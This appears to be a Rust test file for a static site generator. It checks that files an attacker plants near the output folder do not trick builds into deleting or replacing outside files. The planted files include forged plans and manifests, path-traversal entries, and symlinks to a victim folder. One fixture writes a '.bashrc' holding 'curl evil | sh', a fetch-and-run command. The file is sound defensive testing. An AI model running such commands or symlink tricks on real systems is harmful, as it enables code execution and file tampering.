//! Files that an attacker has created beside and within the output folder, and folders that cannot
//! be exchanged.

use std::fs;
use std::path::{Path, PathBuf};

use crate::place::{Place, names};
use crate::program::{path, site};

/// Options of builds with and without a cache, on which the result of an attack must not depend.
const WAYS: [&[&str]; 2] = [&[], &["--no-cache"]];

#[test]
fn a_planted_plan_directs_nothing() {
    let absolute = |place: &Place| path(&place.path("victim/precious.txt")).to_owned();
    type Planted = fn(&Place, String) -> String;
    let plans: [Planted; 4] = [
        |_, absolute| format!(r#"{{"target":"build","moved":[],"removed":["{absolute}"]}}"#),
        |_, _| r#"{"target":"build","moved":[],"removed":["../victim/precious.txt"]}"#.to_owned(),
        |_, _| r#"{"target":"build","moved":["a/precious.txt"],"removed":[]}"#.to_owned(),
        |_, absolute| format!(r#"{{"target":"build","moved":["{absolute}"],"removed":[]}}"#),
    ];
    for plan in plans {
        for way in WAYS {
            for name in [".site-build-z", ".site-build-abc123"] {
                let place = Place::new();
                place.build_well("build", way);
                place.write(&format!("{name}/.commit.json"), &plan(&place, absolute(&place)));
                place.write(&format!("{name}/a/precious.txt"), "evil");
                place.write("docs/content/index.md", "# Other\n");
                place.build_well("build", way);
                place.assert_victim();
                assert_eq!(place.work_folders(), [name], "what is not ours stays");
            }
        }
    }
}

/// A folder that imitates the work folder of a killed build is removed, without further effects.
#[cfg(unix)]
#[test]
fn a_planted_work_folder_is_only_removed() {
    use std::os::unix::fs::symlink;
    for way in WAYS {
        let place = Place::new();
        place.build_well("build", way);
        let planted = ".site-build-abc123";
        place.write(&format!("{planted}/docs-site.lock"), "");
        place.write(&format!("{planted}/displaced/build/index.html"), "evil");
        place.write(&format!("{planted}/displaced/.bashrc"), "curl evil | sh");
        place.write(&format!("{planted}/site/index.html"), "evil");
        for (from, to) in [("site/link", "../../victim"), ("displaced/victim", "../../victim")] {
            symlink(to, place.path(planted).join(from)).expect("the folder is ours");
        }
        // Links in place of a work folder, and of the lock of another one.
        symlink("victim", place.path(".site-build-abc124")).expect("the folder is ours");
        fs::create_dir(place.path(".site-build-abc125")).expect("the folder is ours");
        let lock = place.path(".site-build-abc125/docs-site.lock");
        symlink("../victim/precious.txt", lock).expect("the folder is ours");

        place.write("docs/content/index.md", "# Other\n");
        place.build_well("build", way);
        place.assert_victim();
        assert!(place.read("build/index.html").contains("<h1>Other</h1>"));
        assert!(!place.path(".bashrc").exists());
        assert_eq!(place.work_folders(), [".site-build-abc124", ".site-build-abc125"]);
    }
}

#[cfg(unix)]
#[test]
fn links_within_the_output_are_kept_and_not_followed() {
    use std::os::unix::fs::symlink;
    for way in WAYS {
        let place = Place::new();
        place.build_well("build", way);
        symlink("../victim", place.path("build/shortcut")).expect("the folder is ours");
        place.write("docs/content/index.md", "# Other\n");
        place.build_well("build", way);
        let link = fs::read_link(place.path("build/shortcut")).expect("the link stays");
        assert_eq!(link, Path::new("../victim"));
        // The site adds a folder with the name of the link.
        place.write("docs/content/shortcut/precious.md", "# Evil\n");
        let said = place.build_badly("build");
        assert!(said.contains("`PLACE/build/shortcut` was not written by a build"), "{said}");
        place.assert_victim();
    }
}

/// An attacker can add a manifest together with a whole output folder. It can name only files of
/// this folder.
#[cfg(unix)]
#[test]
fn a_planted_manifest_names_files_of_its_folder_only() {
    use std::os::unix::fs::symlink;
    for way in WAYS {
        let place = Place::new();
        place.write(
            "build/.docs-site.json",
            r#"{"generator":"docs-site","base_url":"/","html_routes":[]}"#,
        );
        let absolute = place.path("victim/precious.txt");
        let listed =
            [path(&absolute), "../victim/precious.txt", "guide/precious.txt", "guide", "link"];
        let manifest = serde_json::to_string(&listed).expect("text is JSON");
        place.write("build/.docs-site.files.json", &manifest);
        symlink("../victim", place.path("build/guide")).expect("the folder is ours");
        symlink("../victim/precious.txt", place.path("build/link")).expect("the folder is ours");
        place.build_well("build", way);
        place.assert_victim();
        assert!(place.path("build/guide").join("a.html").exists());
        assert!(!place.path("build/guide").is_symlink(), "the manifest says that it was ours");
    }
}

/// A repository may contain a cache, whose file names can be derived from the output's path.
#[cfg(unix)]
#[test]
fn links_in_place_of_the_cache_s_files_are_not_followed() {
    use std::os::unix::fs::symlink;
    let place = Place::new();
    place.build_well("build", &[]);
    let cache = place.path(".site-cache");
    let files =
        names(&cache).into_iter().filter(|name| name.contains("records") || name.contains("lock"));
    let files: Vec<String> = files.collect();
    assert_eq!(files.len(), 2);
    for file in files.iter().map(|file| cache.join(file)) {
        for more in ["draft", "state", "spare"] {
            let planted = file.with_extension(more);
            // At most one of the calls succeeds: the path is a file, a folder or missing.
            let _ = fs::remove_file(&planted);
            let _ = fs::remove_dir_all(&planted);
            symlink("../victim", planted).expect("the folder is ours");
        }
        fs::remove_file(&file).expect("it is there");
        symlink("../victim/precious.txt", &file).expect("the folder is ours");
        // The build may fail or succeed.
        let _ = place.build("build", &[]);
        place.assert_victim();
        let _ = fs::remove_file(&file);
    }
    place.build_well("build", &[]);
    place.assert_victim();
}

#[test]
fn a_refused_build_touches_nothing() {
    let place = Place::new();
    place.write("build/thesis.txt", "years");
    place.write("build/.docs-site.files.json", r#"["thesis.txt"]"#);
    place.write("build/.site-build-abc123/docs-site.lock", "");
    place.write("build/.site-build-abc123/displaced/index.html", "evil");
    let said = place.build_badly("build");
    assert!(said.contains("`PLACE/build` is not empty, and was not written by a build"), "{said}");
    let left = [".docs-site.files.json", ".site-build-abc123", "thesis.txt"];
    assert_eq!(names(&place.path("build")), left);
    assert_eq!(place.read("build/thesis.txt"), "years");
    assert!(place.work_folders().is_empty());
}

#[test]
fn files_of_other_programs_survive_every_kind_of_build() {
    let place = Place::new();
    place.build_well("build", &[]);
    let foreign = [".git/HEAD", ".git/objects/ab/cd", "CNAME", "guide/notes.txt", ".nojekyll"];
    for file in foreign {
        place.write(&format!("build/{file}"), file);
    }
    let cache = place.path(".site-cache");
    let builds: [(&str, &[&str]); 5] = [
        ("# Home\n", &[]),
        ("# One edit\n", &[]),
        ("# Another\n", &["--set", "title=Other"]),
        ("# No cache\n", &["--no-cache"]),
        ("# Another cache\n", &["--cache", "cache"]),
    ];
    for (text, more) in builds {
        place.write("docs/content/index.md", text);
        let other_cache = place.path("other");
        let more: Vec<&str> = more
            .iter()
            .map(|more| if *more == "cache" { path(&other_cache) } else { more })
            .collect();
        place.build_well("build", &more);
        for file in foreign {
            assert_eq!(place.read(&format!("build/{file}")), file, "{text}");
        }
        let heading = text.trim().trim_start_matches("# ");
        assert!(place.read("build/index.html").contains(&format!("<h1>{heading}</h1>")));
    }
    fs::remove_dir_all(cache).expect("the cache is there");
    fs::remove_dir_all(place.path("docs/content/guide")).expect("it is there");
    place.build_well("build", &[]);
    assert!(!place.path("build/guide/a.html").exists(), "a build has written it");
    assert_eq!(place.read("build/guide/notes.txt"), "guide/notes.txt");
}

#[test]
fn a_page_does_not_replace_a_foreign_file() {
    let place = Place::new();
    place.build_well("build", &[]);
    place.write("build/notes.html", "somebody's");
    place.write("build/data/raw", "somebody's");
    place.write("docs/content/notes.md", "# Notes\n");
    place.write("docs/content/data.v1.md", "# Data\n");
    place.write("docs/static/data", "the site's");
    let said = place.build_badly("build");
    insta::assert_snapshot!(said, @r"
    error: `PLACE/build/data`, `PLACE/build/notes.html` were not written by a build, and the site has files of the same names
      help: a build keeps what it has not written: move it away, or put it among the site's static files
    ");
    assert_eq!(place.read("build/notes.html"), "somebody's");
    fs::remove_file(place.path("build/notes.html")).expect("it is there");
    fs::remove_dir_all(place.path("build/data")).expect("it is there");
    place.build_well("build", &[]);
    assert!(place.read("build/notes.html").contains("<h1>Notes</h1>"));
}

#[test]
fn a_file_is_no_output_folder() {
    let place = Place::new();
    place.write("notes.txt", "years");
    insta::assert_snapshot!(place.build_badly("notes.txt"), @r"
    error: can't write the site to `PLACE/notes.txt`: it is a file, not a folder
      help: remove the file, or name a folder with `--out DIR`
    ");
    assert_eq!(place.read("notes.txt"), "years");
}

#[cfg(unix)]
#[test]
fn a_link_to_the_output_folder_stays() {
    use std::os::unix::fs::symlink;
    for way in WAYS {
        let place = Place::new();
        fs::create_dir_all(place.path("real/www")).expect("the folder is ours");
        symlink("real/www", place.path("public")).expect("the folder is ours");
        for text in ["One", "Two"] {
            place.write("docs/content/index.md", &format!("# {text}\n"));
            place.build_well("public", way);
            assert!(place.read("real/www/index.html").contains(&format!("<h1>{text}</h1>")));
            let link = fs::read_link(place.path("public")).expect("the link stays");
            assert_eq!(link, Path::new("real/www"));
        }
        assert_eq!(names(&place.path("real")), ["www"]);
    }
}

#[cfg(unix)]
#[test]
fn a_link_that_leads_nowhere_is_refused() {
    let place = Place::new();
    std::os::unix::fs::symlink("real/www", place.path("public")).expect("the folder is ours");
    insta::assert_snapshot!(place.build_badly("public"), @r"
    error: can't write the site to `PLACE/public`: it is a link to `real/www`, which does not exist
      help: make the folder `real/www`, or remove the link
    ");
    assert!(fs::read_link(place.path("public")).is_ok() && !place.path("real").exists());
}

/// The working directory of a shell is not exchanged: the shell would remain in the old one.
#[test]
fn a_folder_that_somebody_works_in_is_written_within() {
    let place = Place::new();
    fs::create_dir(place.path("build")).expect("the folder is ours");
    let (root, cache) = (place.path("docs"), place.path("cache"));
    let build = || {
        let arguments = ["build", "--root", path(&root), "--out", ".", "--cache", path(&cache)];
        let output = site(&arguments).current_dir(place.path("build")).output();
        let output = output.expect("the program starts");
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let identity = || fs::metadata(place.path("build")).and_then(|folder| folder.created());
    let before = identity().ok();
    build();
    place.write("build/CNAME", "foreign");
    place.write("build/guide/notes.txt", "foreign");
    for change in ["edit", "gone", "same"] {
        match change {
            "edit" => place.write("docs/content/index.md", "# Edited\n"),
            "gone" => fs::remove_file(place.path("docs/content/guide/a.md")).expect("there"),
            _ => {}
        }
        let said = build();
        assert_eq!(said.contains("nothing has changed"), change == "same", "{said}");
        let clean = Place::new();
        clean.write("docs/content/index.md", "# Edited\n");
        if change != "edit" {
            fs::remove_file(clean.path("docs/content/guide/a.md")).expect("it is there");
        }
        clean.build_well("build", &["--no-cache"]);
        clean.write("build/CNAME", "foreign");
        clean.write("build/guide/notes.txt", "foreign");
        assert_eq!(tree(&place.path("build")), tree(&clean.path("build")), "{change}");
    }
    assert_eq!(identity().ok(), before, "the folder is the same");
}

fn tree(folder: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let entries = walkdir::WalkDir::new(folder).sort_by_file_name().into_iter();
    let files = entries.map(|entry| entry.expect("it can be read"));
    files
        .filter(|entry| !entry.file_type().is_dir())
        .map(|entry| {
            let path = entry.path().strip_prefix(folder).expect("below the folder").to_owned();
            (path, fs::read(entry.path()).expect("it can be read"))
        })
        .collect()
}
